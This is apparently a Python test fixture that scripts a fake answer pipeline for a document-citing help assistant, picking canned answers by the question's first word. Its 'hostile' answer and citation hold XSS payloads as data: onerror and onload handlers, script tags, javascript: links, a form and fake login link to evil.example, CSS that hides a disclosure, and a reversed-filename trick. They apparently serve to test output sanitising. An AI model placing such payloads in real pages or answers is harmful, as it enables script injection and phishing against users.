"""Scripted answers: what a question's first word asks for."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from dataclasses import replace
from datetime import date
from uuid import uuid4

from answers.events import AnswerEvent, Cited, Done, Replaced, Sentence, Started, StatusChanged
from answers.handoff import OFFER
from answers.kinds import Kind
from answers.types import Answer, Choice, Citation, Closest, Facet, Question
from core.domain import Outcome
from core.errors import UnavailableError

SOURCE = Citation(
    1,
    "doc_1",
    "runbooks/pos-sync-conflict.md",
    "POS sync conflict",
    "https://docs.example/runbooks/pos-sync",
    ("POS sync conflict", "Clearing the queue"),
    None,
    "Stop the sync agent before you clear the queue, or half-written tickets are sent twice.",
    "runbook",
    "7.4",
    date(2026, 3, 1),
    0.83,
)
SENTENCES = (
    "A till shows **SYNC-409** when two stores changed the same ticket while one was offline [1].",
    "Stop the sync agent before you clear the queue [1].",
)
UNKNOWN = "I could not find this in the published documents."
CHOICES = (Choice("7.0 to 7.3", Facet.VERSION, "7.3"), Choice("7.4 and later", Facet.VERSION, "7.4"))

STEAL = "parent.postMessage({stolen: localStorage.length}, '*'); window.stolen = 1"
HOSTILE = (
    f'<img src="x" onerror="{STEAL}"> <script>{STEAL}</script> <svg onload="{STEAL}"></svg> [1]',
    f"[Click here](javascript:{STEAL.replace(' ', '%20')}) and [here](data:text/html,<script>{STEAL}</script>) [1].",
    "![pixel](https://evil.example/pixel.png?q=secret) [sign in again](https://evil.example/login) [1].",
    f'<iframe srcdoc="<script>{STEAL}</script>"></iframe> <style>.disclosure {{ display: none }}</style> [1]',
    "```\n</code></pre><script>window.stolen = 1</script>\n```",
    "| a | b |\n|---|---|\n| <form action=https://evil.example><input name=q></form> | \u202egnp.exe |",
)
HOSTILE_SOURCE = replace(
    SOURCE,
    title=f'<b onmouseover="{STEAL}">Sync</b>',
    url=f"javascript:{STEAL}",
    quote=f"</mark><script>{STEAL}</script><img src=x onerror='{STEAL}'>",
    heading_path=("<img src=x onerror=alert(1)>",),
)


class FakePipeline:
    """Keeps what was asked, and by whom. `pause` is slept before and after the first sentence (s)."""

    def __init__(self) -> None:
        self.asked: list[Question] = []
        self.pause = 0.0
        self.ended = 0

    async def ask(self, question: Question) -> AsyncIterator[AnswerEvent]:
        self.asked.append(question)
        try:
            async for event in self._told(question):
                yield event
        finally:
            self.ended += 1

    async def _told(self, question: Question) -> AsyncIterator[AnswerEvent]:
        conversation, answer_id = question.conversation_id or uuid4().hex, uuid4().hex
        answer = answer_of(question.text, conversation, answer_id)
        yield Started(answer_id, conversation, "extractive", 3)
        yield StatusChanged("searching")
        await asyncio.sleep(self.pause)
        if question.text.startswith("broken"):
            raise UnavailableError("the language model did not answer; ask again")
        if not answer.citations:
            yield Replaced(answer.text, answer.outcome)
        for number, (text, source) in enumerate(_units(answer)):
            yield Sentence(number, text, "sentence")
            yield Cited(source)
            await asyncio.sleep(self.pause if number == 0 else 0.0)
        yield Done(answer)


def answer_of(question: str, conversation: str, answer_id: str) -> Answer:
    given = Answer(
        answer_id,
        conversation,
        Outcome.ANSWERED,
        " ".join(SENTENCES),
        (SOURCE,),
        0.8,
        False,
        3,
        {},
        "extractive",
        {},
        None,
        {"total": 5.0},
    )
    silent = replace(given, outcome=Outcome.ABSTAINED, text=UNKNOWN, citations=(), handoff=OFFER)
    closest = (Closest("POS sync conflict", "doc_1", SOURCE.url, ()),)
    scripts = {
        "unknown": replace(silent, closest=closest),
        "refused": replace(silent, outcome=Outcome.REFUSED, text="I do not answer that."),
        "degraded": replace(given, degraded=True),
        "partly": replace(given, partial=True),
        "which": replace(silent, text="Which version do you run?", kind=Kind.CLARIFICATION, choices=CHOICES),
        "hostile": replace(given, text="\n\n".join(HOSTILE), citations=(HOSTILE_SOURCE,)),
    }
    return scripts.get(question.lower().partition(" ")[0], given)


def _units(answer: Answer) -> list[tuple[str, Citation]]:
    if not answer.citations:
        return []
    texts = HOSTILE if answer.citations[0] is HOSTILE_SOURCE else SENTENCES
    return [(text, answer.citations[0]) for text in texts]
